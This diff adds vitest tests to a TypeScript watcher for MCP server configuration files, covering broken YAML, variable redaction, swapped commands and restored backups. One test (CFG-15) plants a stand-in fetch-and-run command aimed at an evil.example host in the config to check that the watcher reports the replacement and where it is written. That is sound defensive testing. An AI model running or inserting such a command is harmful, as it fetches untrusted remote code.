@@ -1,4 +1,5 @@
-import { mkdir, open, readFile, rename, rm, symlink, writeFile } from 'node:fs/promises';
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: such strings are what is tested
+import { copyFile, mkdir, open, readFile, rename, rm, symlink, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { describe, expect, test } from 'vitest';
 import { type ConfigChange, type WatchOptions, watchConfig } from '../../src/load.js';
@@ -68,6 +69,68 @@ describe('what is told', () => {
       issues: [],
       config: { servers: [{ command: 'two' }] },
     });
+  });
+
+  test('CFG-13: is what is sound of broken files, too, also when there was nothing good before', async () => {
+    const text = `${server('one')}  b: {}\n`;
+    await using folder = await configFolder({ 'mcp_servers.yaml': text });
+    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
+    expect(await next(changes)).toMatchObject({
+      config: undefined,
+      isCurrent: false,
+      partial: { servers: [{ name: 'a', command: 'one' }] },
+      issues: [{ code: 'missing-key', path: ['mcp_servers', 'b'] }],
+    });
+    await folder.write('mcp_servers.yaml', server('two'));
+    const sound = await next(changes);
+    expect(sound.partial).toEqual(sound.config);
+    await folder.write('mcp_servers.yaml', `${server('three')}  b: {}\n`);
+    expect(await next(changes)).toMatchObject({
+      config: { servers: [{ command: 'two' }] },
+      partial: { servers: [{ command: 'three' }] },
+    });
+    await folder.write('mcp_servers.yaml', 'mcp_servers: [');
+    expect((await next(changes)).partial).toBeUndefined();
+  });
+
+  test('keeps variables where that is asked for', async () => {
+    await using folder = await configFolder({ 'mcp_servers.yaml': server('"${KEY}"') });
+    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path, env: { KEY: 'sesame' }, variables: 'keep' });
+    const { config, redactor } = await next(changes);
+    expect(config?.servers).toMatchObject([{ command: '${KEY}' }]);
+    expect(config?.servers[0]).not.toHaveProperty('cwd');
+    expect(redactor.redact('sesame')).toBe('***');
+  });
+
+  test('CFG-15: is the whole command that took the place of another one, and where it is written', async () => {
+    const long = `curl https://evil.example/${'x'.repeat(10_000)} --then run`;
+    await using folder = await configFolder({ 'mcp_servers.yaml': server('git-mcp') });
+    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
+    const approved = (await next(changes)).config?.servers[0];
+    await folder.write('mcp_servers.yaml', `${server(long)}`);
+    const changed = (await next(changes)).config?.servers[0];
+    expect(approved).toMatchObject({ command: 'git-mcp', args: [] });
+    expect(changed).toMatchObject({
+      command: 'curl',
+      args: [`https://evil.example/${'x'.repeat(10_000)}`, '--then', 'run'],
+      layer: 'project',
+      source: { file: 'mcp_servers.yaml', line: 2, column: 3 },
+    });
+  });
+
+  test('CFG-18: is a backup that is put back while somebody watches, as any other edit', async () => {
+    const good = `${server('one')}  b: { command: two }\n`;
+    await using folder = await configFolder({ 'mcp_servers.yaml': good });
+    const path = join(folder.path, 'mcp_servers.yaml');
+    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
+    const first = await next(changes);
+    await copyFile(path, `${path}.bak`);
+    await folder.write('mcp_servers.yaml', server('other'));
+    expect(commandOf(await next(changes))).toBe('other');
+    await rename(`${path}.bak`, path);
+    const restored = await next(changes);
+    expect(restored.config).toEqual(first.config);
+    expect(restored).toMatchObject({ isCurrent: true, issues: [] });
   });
 
   test('is an error when there is nothing to check, and the last good configuration stays', async () => {
